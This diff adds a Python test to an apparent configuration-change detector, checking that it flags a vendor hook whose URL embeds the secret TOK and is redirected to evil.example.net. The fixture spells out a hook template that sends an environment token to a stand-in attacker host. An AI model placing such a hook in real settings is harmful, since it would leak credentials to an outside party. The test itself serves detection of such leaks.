@@ -74,6 +74,19 @@ def test_a_secret_that_moves_stands_first_whatever_moves_it(
     assert all(any("evil.example.net" in each.cause for each in change.fields) for change in found.changed)
 
 
+def test_a_secret_that_moves_in_a_setting_stands_first_too(tmp_path: Path) -> None:
+    def with_hook(host: str) -> str:
+        settings = f"vendors: {{ doksi: {{ extra: {{ hook: 'https://{host}/{{{{ env.TOK }}}}' }} }}, certyn:"
+        return matrix().replace("vendors: { certyn:", settings)
+
+    found, told = difference(tmp_path, with_hook("a.example.com"), with_hook("evil.example.net"))
+    assert [change.after.id for change in found.changed] == list(URLS)
+    assert [each.message for each in told] == [
+        "the secret TOK now goes to evil.example.net in a URL",
+        "vendors.doksi.extra.hook leads to evil.example.net now, before to a.example.com",
+    ]
+
+
 def test_settings_of_a_vendor_are_fields_of_its_rows(tmp_path: Path) -> None:
     found, told = difference(tmp_path, matrix(), matrix(environment="production"))
     assert [change.after.id for change in found.changed] == ["smoke"]
